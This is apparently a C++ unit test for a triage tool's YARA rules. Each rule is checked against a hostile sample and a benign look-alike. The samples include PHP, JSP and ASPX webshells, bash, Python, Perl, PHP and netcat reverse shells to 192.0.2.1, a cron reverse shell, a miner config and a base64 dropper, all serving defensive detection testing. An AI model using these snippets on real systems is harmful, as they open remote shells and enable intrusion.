// SPDX-License-Identifier: Apache-2.0
// Every shipped YARA rule against one thing it must hit and one look-alike it must not. The samples are
// harmless texts of our own; those a virus scanner would delete are put together from pieces.
#include "casefile/encoding.h"
#include "triage/yara/rule_set.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <string>

namespace firsthour::triage {
namespace {

struct Sample {
  std::string rule, path, hit, miss;
};

std::string elf(const std::string& words) {
  return "\x7f"
         "ELF" +
         std::string(60, '\0') + words;
}

std::vector<Sample> samples() {
  const std::string blob(240, 'Q');
  const std::string open = "<?php ";
  return {
      {"webshell_php_runs_request", "/var/www/html/a.php",
       open + "@ev"
              "al($_POST['x']); ?>",
       open + "echo htmlspecialchars($_POST['x']); system('uptime'); ?>"},
      {"webshell_php_request_through_variable", "/var/www/html/b.php",
       open + "$c = $_GET['c']; sys"
              "tem($c); ?>",
       open + "$c = $_GET['c']; echo intval($c); $cmd = 'date'; ?>"},
      {"webshell_php_packed_payload", "/var/www/html/c.php",
       open +
           "ev"
           "al(gzinflate(base64_decode('" +
           blob + "'))); ?>",
       open + "$logo = base64_decode('" + blob + "'); header('Content-Type: image/png'); ?>"},
      {"webshell_php_encrypted_channel", "/var/www/html/d.php",
       open + "$p = file_get_contents('php://input'); $p = openssl_decrypt($p, 'AES-128-ECB', $k); ev"
              "al($p); ?>",
       open + "$p = json_decode(file_get_contents('php://input')); $t = openssl_decrypt($p->t, $m, $k); ?>"},
      {"webshell_jsp_runs_request", "/opt/tomcat/webapps/a.jsp",
       "<% Runtime.getRun"
       "time().exec(request.getParameter(\"c\")); %>",
       "<% String name = request.getParameter(\"name\"); out.print(escape(name)); %>"},
      {"webshell_jsp_loads_class_from_request", "/opt/tomcat/webapps/b.jsp",
       "<% byte[] b = read(request.getInput"
       "Stream()); new L(c).defineClass(b); %>",
       "<% BufferedReader r = request.getReader(); out.print(parse(r)); %>"},
      {"webshell_asp_runs_request", "/srv/www/a.aspx",
       "<%@ Page Language=\"Jscript\"%><%ev"
       "al(Request.Item[\"x\"]);%>",
       "<% Response.Write(Server.HtmlEncode(Request.Form(\"x\"))) %>"},
      {"reverse_shell_bash_dev_tcp", "/etc/cron.d/x",
       "* * * * * root bash -i >& /dev/"
       "tcp/192.0.2.1/4444 0>&1\n",
       "*/5 * * * * root timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/22' || systemctl restart ssh\n"},
      {"reverse_shell_python", "/tmp/a.py",
       "import socket,os,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',1))\nos.dup2(s.file"
       "no(),0)\n"
       "subprocess.call(['/bin/sh','-i'])\n",
       "import "
       "socket,os,subprocess\ns=socket.socket()\nsubprocess.run(['/usr/bin/"
       "uptime'])\nos.dup2(log.fileno(),1)\n"},
      {"reverse_shell_perl", "/tmp/a.pl",
       "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,\">&"
       "S\");exec(\"/bin/sh -i\");",
       "use IO::Socket; my $s = IO::Socket::INET->new('127.0.0.1:25'); open(STDIN, '<', '/dev/null'); "
       "exec('/bin/date');"},
      {"reverse_shell_php", "/tmp/s.php",
       open + "$s=fsock"
              "open('192.0.2.1',1); $p=proc_open('/bin/sh -i', $d, $pipes);",
       open + "$s=fsockopen('127.0.0.1',11211); $p=proc_open('/usr/bin/convert', $d, $pipes);"},
      {"reverse_shell_netcat", "/root/.bash_history",
       "nc -n 192.0.2.1 4444 -e /bin/"
       "sh\n",
       "nc -z -e0 localhost 22 && sh ./deploy.sh\nmkfifo /tmp/pipe; cat /tmp/pipe | gzip > /tmp/x.gz\n"},
      {"miner_program", "/usr/local/bin/m",
       elf("stratum+"
           "tcp://x randomx hashrate donate-level"),
       elf("tcp://broker:1883 random hash rate level")},
      {"miner_configuration", "/tmp/config.json",
       "{\"algo\": \"rx/0\", \"url\": \"stratum+"
       "tcp://pool.example.org:3333\", \"user\": \"w\"}",
       "{\"algo\": \"sha256\", \"url\": \"tcp://db.example.org:3306\", \"user\": \"app\"}"},
      {"packer_upx_elf", "/usr/local/bin/p", elf("UPX!" + std::string(40, 'x') + "UPX!"),
       elf("this program can read UPX! files")},
      {"packer_script_runs_embedded_base64", "/tmp/install.sh",
       "#!/bin/sh\nP='" + blob + "'\necho $P | base64 -d | sh\n",
       "#!/bin/sh\nCERT='" + blob + "'\necho $CERT | base64 -d > ca.der\n"},
      {"packer_memfd_loader", "/tmp/l.pl",
       "#!/usr/bin/perl\nmy $fd = syscall(319, $n, 1);\nprint $o $elf; exec {\"/proc/$$/fd/$fd\"} 'x';\n",
       "#!/usr/bin/perl\nmy $fd = fileno($log);\nmy $t = readlink(\"/proc/$$/fd/$fd\");\n"},
      {"page_hidden_dark_links", "/var/www/html/index.html",
       "<html><body><div style=\"position:absolute; left:-9999px\"><a "
       "href=\"http://example.org/\">六合彩</a>",
       "<html><body><div style=\"display:none\"><a href=\"http://example.org/\">菜单</a></div>" +
           std::string(3'000, ' ') + "警方通报：查处六合彩赌博窝点"},
      {"page_title_for_search_engines", "/var/www/html/index.html",
       "<html><head><title>&#20845;&#x5408;&#24425;-&#39318;&#39029;</title>",
       "<html><head><title>&#20845;&#26376;&#36890;&#30693;</title><p>&#20845;&#21512;&#24425;</p>"},
      {"page_defaced", "/var/www/html/index.html", "<html><title>Hacked by nobody</title>",
       "<html><title>News</title><p>The shop was hacked by two students in 2019.</p>"},
      {"eicar_test_file", "/tmp/e.com",
       std::string{"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-"} + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
       "The EICAR test file begins with X5O!P%@AP and is harmless."},
  };
}

class ShippedYaraRules : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    std::vector<RuleProblem> problems;
    auto rules = RuleSet::compile({FIRSTHOUR_SOURCE_DIR "/triage/rules/yara"}, problems);
    ASSERT_TRUE(rules) << rules.error().what;
    ASSERT_TRUE(problems.empty()) << problems.front().file << ": " << problems.front().what;
    rules_ = *rules;
  }
  static std::set<std::string> hits(const std::string& bytes, const std::string& path) {
    auto scanner = RuleScanner::over(rules_);
    auto answer = (*scanner)->scan(as_bytes(bytes), FileExternals::of_path(path), std::chrono::seconds{20});
    std::set<std::string> names;
    for (const Hit& hit : answer->hits) names.insert(hit.rule);
    return names;
  }
  static inline std::shared_ptr<const RuleSet> rules_;
};

TEST_F(ShippedYaraRules, HitWhatTheyAreForAndLeaveTheLookAlike) {
  for (const Sample& sample : samples()) {
    EXPECT_TRUE(hits(sample.hit, sample.path).contains(sample.rule)) << sample.rule << " misses its sample";
    const auto wrong = hits(sample.miss, sample.path);
    EXPECT_TRUE(wrong.empty()) << sample.rule << ": its look-alike is hit by " << *wrong.begin();
  }
}

TEST_F(ShippedYaraRules, EachHasASampleADescriptionInBothLanguagesAndASeverity) {
  std::set<std::string> tested;
  for (const Sample& sample : samples()) tested.insert(sample.rule);
  std::set<std::string> shipped;
  for (const auto& file : std::filesystem::directory_iterator{FIRSTHOUR_SOURCE_DIR "/triage/rules/yara"}) {
    std::ifstream in{file.path()};
    const std::string text{std::istreambuf_iterator<char>{in}, {}};
    const std::regex head{R"((^|\n)(private )?rule (\w+))"};
    for (std::sregex_iterator rule{text.begin(), text.end(), head}, end; rule != end; ++rule) {
      if (!(*rule)[2].matched) shipped.insert((*rule)[3]);
    }
  }
  EXPECT_EQ(tested, shipped);
  for (const Sample& sample : samples()) {
    auto scanner = RuleScanner::over(rules_);
    auto answer =
        (*scanner)->scan(as_bytes(sample.hit), FileExternals::of_path(sample.path), std::chrono::seconds{20});
    for (const Hit& hit : answer->hits) {
      EXPECT_FALSE(hit.title.empty() || hit.title_zh.empty()) << hit.rule;
    }
  }
}

TEST_F(ShippedYaraRules, DoNotHitTheirOwnSources) {
  for (const auto& file : std::filesystem::directory_iterator{FIRSTHOUR_SOURCE_DIR "/triage/rules/yara"}) {
    std::ifstream in{file.path()};
    const std::string text{std::istreambuf_iterator<char>{in}, {}};
    const auto names = hits(text, file.path().string());
    EXPECT_TRUE(names.empty()) << file.path() << " is hit by " << *names.begin();
  }
}

TEST_F(ShippedYaraRules, LeaveALogThatQuotesAnAttack) {
  EXPECT_TRUE(hits("GET /?c=bash -i >& /dev/"
                   "tcp/192.0.2.1/4444 0>&1\n",
                   "/var/log/nginx/access.log")
                  .empty());
}

}  // namespace
}  // namespace firsthour::triage
